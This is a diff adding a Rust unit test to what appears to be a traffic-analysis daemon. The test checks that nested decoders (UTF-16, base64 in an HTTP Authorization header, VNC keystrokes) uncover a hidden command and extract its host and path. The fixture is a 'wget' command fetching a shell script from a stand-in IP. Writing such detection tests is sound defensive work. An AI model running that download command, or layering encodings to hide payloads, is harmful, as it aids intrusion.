@@ -547,6 +547,29 @@ mod tests {
     }
 
     #[test]
+    fn decoders_nest_and_only_the_configured_ones_run() {
+        let inner = "wget http://192.0.2.9/a.sh";
+        let http =
+            format!("GET / HTTP/1.1\r\nAuthorization: Negotiate {}\r\n\r\n", decode::base64_encode(inner.as_bytes()));
+        let utf16: Vec<u8> = http.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
+        let all = Decoders { b64: true, unicode: true, vnc: true };
+        let derived = all.derive(&utf16);
+        // UTF-16 first, then the base64 body inside it.
+        assert_eq!(derived.first().map(Vec::as_slice), Some(http.as_bytes()));
+        assert!(derived.iter().any(|d| d == inner.as_bytes()), "{derived:?}");
+        let reqs = requests_of(&utf16, &derived);
+        assert_eq!(reqs.len(), 1, "{reqs:?}");
+        assert_eq!((reqs[0].host.as_str(), reqs[0].path.as_str()), ("192.0.2.9", "/a.sh"));
+        // Without deUnicode the base64 body stays hidden in the UTF-16 string.
+        assert!(Decoders { unicode: false, ..all }.derive(&utf16).is_empty());
+        assert!(Decoders::default().derive(http.as_bytes()).is_empty());
+        // VNC: key-down/key-up pairs after the banner.
+        let mut vnc = b"RFB 003.008\n".to_vec();
+        vnc.extend(inner.bytes().flat_map(|c| [c, c]));
+        assert_eq!(Decoders { vnc: true, ..Decoders::default() }.derive(&vnc), [inner.as_bytes().to_vec()]);
+    }
+
+    #[test]
     fn download_slots_are_capped_and_freed() {
         // The slots are daemon-wide; this test is the only user in the unit tests.
         let soon = Instant::now() + Duration::from_millis(100);
